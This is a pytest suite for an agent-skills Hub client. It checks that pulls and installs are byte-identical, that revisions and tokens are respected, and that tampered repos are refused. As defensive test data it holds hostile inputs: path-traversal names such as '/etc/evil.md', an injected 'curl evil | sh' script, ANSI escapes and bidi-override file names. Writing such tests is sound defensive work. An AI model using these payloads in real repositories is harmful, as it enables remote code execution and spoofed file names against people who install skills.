"""``pull`` and ``skills install OWNER/NAME`` against the local Hub: byte-identical, verified, safe."""

from __future__ import annotations

import io
import json
import subprocess
import sys

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from huggingface_hub import CommitOperationAdd, HfApi
from test_push_support import folder_bytes, shipped_skill, write_skill

from upskill_hub._util.hashing import sha256_hex
from upskill_hub.errors import UpskillError
from upskill_hub.hub import dataset_repo as dr
from upskill_hub.hub.pull import load_skills_from_hub, pull
from upskill_hub.hub.push import push
from upskill_hub.managed import MARKER
from upskill_hub.skill import load_skill

CLI = [sys.executable, "-c", "from upskill_hub.cli.app import entry; entry()"]


def _published(tmp_path, repo_id):
    skill_dir = shipped_skill() or write_skill(tmp_path / "src")
    push([skill_dir], repo_id)
    return skill_dir


def test_pull_is_byte_identical_and_idempotent(hub_server, hub_repo_id, tmp_path):
    skill_dir = _published(tmp_path, hub_repo_id)
    out = tmp_path / "out"
    result = pull(hub_repo_id, [skill_dir.name], out_dir=out)
    assert result.status == {skill_dir.name: "written"}
    assert folder_bytes(out / skill_dir.name) == folder_bytes(skill_dir)
    assert pull(hub_repo_id, None, out_dir=out).status == {skill_dir.name: "unchanged"}

    # Local edits are not overwritten silently.
    (out / skill_dir.name / "SKILL.md").write_bytes(b"edited")
    with pytest.raises(UpskillError, match="--force"):
        pull(hub_repo_id, [skill_dir.name], out_dir=out)
    assert (out / skill_dir.name / "SKILL.md").read_bytes() == b"edited"
    pull(hub_repo_id, [skill_dir.name], out_dir=out, force=True)
    assert folder_bytes(out / skill_dir.name) == folder_bytes(skill_dir)


def test_pull_at_a_revision(hub_server, hub_repo_id, tmp_path):
    skill_dir = write_skill(tmp_path / "src")
    first = push([skill_dir], hub_repo_id)
    old = folder_bytes(skill_dir)
    (skill_dir / "SKILL.md").write_text((skill_dir / "SKILL.md").read_text() + "Version two.\n")
    push([skill_dir], hub_repo_id)
    pull(hub_repo_id, out_dir=tmp_path / "old", revision=first.commit_oid)
    assert folder_bytes(tmp_path / "old" / "tiny-skill") == old
    pull(hub_repo_id, out_dir=tmp_path / "new")
    assert folder_bytes(tmp_path / "new" / "tiny-skill") == folder_bytes(skill_dir)


def test_unknown_skill_lists_available(hub_server, hub_repo_id, tmp_path):
    _published(tmp_path, hub_repo_id)
    with pytest.raises(UpskillError, match="no skill named 'nope'.*available: ") as exc:
        load_skills_from_hub(hub_repo_id, ["nope"])
    assert "\n" not in str(exc.value)


def _upload(repo_id, files: dict[str, bytes]):
    HfApi().create_commit(
        repo_id,
        [CommitOperationAdd(path_in_repo=p, path_or_fileobj=d) for p, d in files.items()],
        commit_message="tamper",
        repo_type="dataset",
    )


def _table_with(record: dict) -> bytes:
    buf = io.BytesIO()
    pq.write_table(pa.Table.from_pylist([record], schema=dr.skills_arrow_schema()), buf)
    return buf.getvalue()


@pytest.mark.parametrize("bad_path", ["../escape.md", "/etc/evil.md", "references/../../x.md", "a\\b.md"])
def test_hostile_paths_in_the_skills_table_are_refused(hub_server, hub_repo_id, tmp_path, bad_path):
    skill_dir = write_skill(tmp_path / "src")
    push([skill_dir], hub_repo_id)
    record = dr.skill_record(load_skill(skill_dir).skill)
    record["files"].append({"path": bad_path, "size": 4, "sha256": "0" * 64})
    _upload(hub_repo_id, {"data/skills/tiny-skill.parquet": _table_with(record)})
    out = tmp_path / "out"
    with pytest.raises(UpskillError, match="unsafe path") as exc:
        pull(hub_repo_id, out_dir=out)
    assert "nothing was written" in str(exc.value)
    assert not out.exists()
    assert not (tmp_path / "escape.md").exists()


@pytest.mark.parametrize(
    "tamper, message",
    [
        ("content", "does not have its recorded size|recorded sha256"),
        ("extra-file", "not recorded in the skills table"),
        ("name", "holds skill"),
    ],
)
def test_tampered_repos_are_refused(hub_server, hub_repo_id, tmp_path, tamper, message):
    skill_dir = write_skill(tmp_path / "src")
    push([skill_dir], hub_repo_id)
    if tamper == "content":
        data = (skill_dir / "SKILL.md").read_bytes().replace(b"hello", b"HELLO")
        _upload(hub_repo_id, {"skills/tiny-skill/SKILL.md": data})
    elif tamper == "extra-file":
        _upload(hub_repo_id, {"skills/tiny-skill/scripts/run.sh": b"curl evil | sh\n"})
    else:
        record = dr.skill_record(load_skill(skill_dir).skill)
        record["name"] = "other-skill"
        _upload(hub_repo_id, {"data/skills/tiny-skill.parquet": _table_with(record)})
    out = tmp_path / "out"
    with pytest.raises(UpskillError, match=message):
        pull(hub_repo_id, out_dir=out)
    assert not out.exists()


@pytest.mark.slow
def test_skills_install_from_the_hub(hub_server, hub_repo_id, tmp_path):
    skill_dir = _published(tmp_path, hub_repo_id)
    project = tmp_path / "project"
    project.mkdir()
    proc = subprocess.run(
        [*CLI, "skills", "install", hub_repo_id, "--skill", skill_dir.name, "--claude"],
        capture_output=True, text=True, cwd=project, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    installed = folder_bytes(project / ".claude" / "skills" / skill_dir.name)
    assert json.loads(installed.pop(MARKER))["repo"] == hub_repo_id  # a managed install (skills update)
    assert installed == folder_bytes(skill_dir)

    bad = subprocess.run(
        [*CLI, "skills", "install", hub_repo_id, "--skill", "missing-skill", "--claude"],
        capture_output=True, text=True, cwd=tmp_path / "project", timeout=120,
    )  # fmt: skip
    assert bad.returncode == 1 and len(bad.stderr.strip().splitlines()) == 1
    assert skill_dir.name in bad.stderr  # lists what is available


@pytest.mark.slow
def test_cli_pull(hub_server, hub_repo_id, tmp_path):
    skill_dir = _published(tmp_path, hub_repo_id)
    proc = subprocess.run(
        [*CLI, "pull", hub_repo_id, "--skill", skill_dir.name, "-o", str(tmp_path / "o")],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert folder_bytes(tmp_path / "o" / skill_dir.name) == folder_bytes(skill_dir)


def test_private_repo_needs_a_token_and_a_read_token_cannot_push(
    hub_server, hub_repo_id, tmp_path, monkeypatch
):
    from upskill_hub.localhub.testing import TEST_READ_TOKEN

    skill_dir = write_skill(tmp_path / "src")
    push([skill_dir], hub_repo_id, private=True)
    n = len(HfApi().list_repo_commits(hub_repo_id, repo_type="dataset"))

    monkeypatch.delenv("HF_TOKEN")
    with pytest.raises(UpskillError, match="not found \\(or it is private") as exc:
        pull(hub_repo_id, out_dir=tmp_path / "anon")
    assert "\n" not in str(exc.value) and not (tmp_path / "anon").exists()

    monkeypatch.setenv("HF_TOKEN", TEST_READ_TOKEN)
    pull(hub_repo_id, out_dir=tmp_path / "reader")
    assert folder_bytes(tmp_path / "reader" / "tiny-skill") == folder_bytes(skill_dir)
    (skill_dir / "SKILL.md").write_text((skill_dir / "SKILL.md").read_text() + "Edit.\n")
    with pytest.raises(UpskillError, match="refused your token") as exc:
        push([skill_dir], hub_repo_id)
    assert TEST_READ_TOKEN not in str(exc.value)
    monkeypatch.setenv("HF_TOKEN", hub_server.config.write_tokens[0])
    assert len(HfApi().list_repo_commits(hub_repo_id, repo_type="dataset")) == n


def test_binary_assets_round_trip_and_unknown_revision(hub_server, hub_repo_id, tmp_path):
    blob = bytes(range(256)) * 64  # binary: the server stores it through Git LFS
    skill_dir = write_skill(
        tmp_path / "src", extra={"assets/logo.png": blob, "scripts/run.sh": b"#!/bin/sh\necho hi\n"}
    )
    push([skill_dir], hub_repo_id)
    info = {f.path: f for f in HfApi().list_repo_tree(hub_repo_id, repo_type="dataset", recursive=True)}
    assert info["skills/tiny-skill/assets/logo.png"].lfs is not None
    pull(hub_repo_id, out_dir=tmp_path / "out")
    assert folder_bytes(tmp_path / "out" / "tiny-skill") == folder_bytes(skill_dir)
    with pytest.raises(UpskillError, match="revision not found"):
        pull(hub_repo_id, out_dir=tmp_path / "o2", revision="no-such-branch")
    assert not (tmp_path / "o2").exists()


def test_pull_and_install_make_scripts_executable_and_folders_0755(hub_server, hub_repo_id, tmp_path):
    import os

    skill_dir = write_skill(tmp_path / "src", extra={"scripts/run.sh": b"#!/bin/sh\necho hi\n"})
    push([skill_dir], hub_repo_id)
    old = os.umask(0o077)
    try:
        pull(hub_repo_id, out_dir=tmp_path / "out")
        proc = subprocess.run(
            [*CLI, "skills", "install", hub_repo_id, "--dest", str(tmp_path / "agent")],
            capture_output=True, text=True, timeout=120,
        )
    finally:
        os.umask(old)
    assert proc.returncode == 0, proc.stderr
    for root in (tmp_path / "out" / "tiny-skill", tmp_path / "agent" / "tiny-skill"):
        assert (root / "scripts" / "run.sh").stat().st_mode & 0o777 == 0o755
        assert (root / "references" / "notes.md").stat().st_mode & 0o777 == 0o644
        assert root.stat().st_mode & 0o777 == 0o755 and (root / "scripts").stat().st_mode & 0o777 == 0o755
        assert subprocess.run([str(root / "scripts" / "run.sh")], capture_output=True, text=True).stdout == "hi\n"
    proc = subprocess.run(
        [*CLI, "pull", hub_repo_id, "-o", str(tmp_path / "out"), "--json"], capture_output=True, text=True, timeout=120
    )
    assert proc.returncode == 0, proc.stderr
    data = json.loads(proc.stdout)
    assert data["repo"] == hub_repo_id and [(r["name"], r["status"]) for r in data["skills"]] == [
        ("tiny-skill", "unchanged")
    ]


def _hostile_table(tmp_path, repo_id, paths: list[str], files: dict[str, bytes] | None = None):
    """Publish tiny-skill, then rewrite its table to also list ``paths`` (and upload ``files``)."""
    skill_dir = write_skill(tmp_path / "src")
    push([skill_dir], repo_id)
    record = dr.skill_record(load_skill(skill_dir).skill)
    for p in paths:
        data = (files or {}).get(p, b"data")
        record["files"].append({"path": p, "size": len(data), "sha256": sha256_hex(data)})
    uploads = {"data/skills/tiny-skill.parquet": _table_with(record)}
    uploads.update({f"skills/tiny-skill/{p}": d for p, d in (files or {}).items()})
    _upload(repo_id, uploads)


@pytest.mark.parametrize(
    ("attack", "paths", "message"),
    [
        ("file and folder of the same name", ["references", "references/x.md"], "both as a file and as a folder"),
        ("300-character file name", ["references/" + "n" * 300 + ".md"], "limited to 255 bytes"),
        ("control characters in a name", ["references/a\x1b[2Jb.md"], "control characters"),
        ("newline in a name", ["references/a\nb.md"], "control characters"),
        ("bidi override in a name", ["references/evil\u202egpj.sh"], "U\\+202E"),
        ("bidi isolate in a name", ["references/a\u2066b.md"], "U\\+2066"),
        ("C1 control (CSI) in a name", ["references/a\x9b2Jb.md"], "control characters"),
        ("rich markup in a path", ["references/[/]boom[bold red].md"], "missing from the repo"),
    ],
)
def test_hostile_names_are_one_line_errors_on_pull(hub_server, hub_repo_id, tmp_path, attack, paths, message):
    _hostile_table(tmp_path, hub_repo_id, paths)
    out = tmp_path / "out"
    with pytest.raises(UpskillError, match=message) as exc:
        pull(hub_repo_id, out_dir=out)
    assert "\n" not in str(exc.value) and "nothing was written" in str(exc.value)
    assert not out.exists()


def test_300_character_name_present_in_the_repo_is_refused_before_writing(hub_server, hub_repo_id, tmp_path):
    long = "references/" + "n" * 300 + ".md"
    _hostile_table(tmp_path, hub_repo_id, [long], {long: b"long name\n"})
    with pytest.raises(UpskillError, match="limited to 255 bytes"):
        pull(hub_repo_id, out_dir=tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_cli_prints_rich_markup_and_escapes_in_names_as_one_plain_line(hub_server, hub_repo_id, tmp_path):
    _hostile_table(tmp_path, hub_repo_id, ["references/[/]boom[bold red]\u200b.md"])
    proc = subprocess.run([*CLI, "pull", hub_repo_id, "-o", str(tmp_path / "o")], capture_output=True, text=True,
                          timeout=120)  # fmt: skip
    assert proc.returncode == 1
    assert "Traceback" not in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
    assert "[/]boom[bold red]" in proc.stderr and "\x1b" not in proc.stderr


def test_printable_escapes_markup_and_control_characters():
    from rich.console import Console

    from upskill_hub.cli.app import printable

    console = Console(record=True, width=200)
    for raw, shown in (("a [/] b [bold]c", "a [/] b [bold]c"), ("x\x1b[31my", "x\\x1b[31my")):
        console.print(printable(raw))
        assert console.export_text().strip() == shown
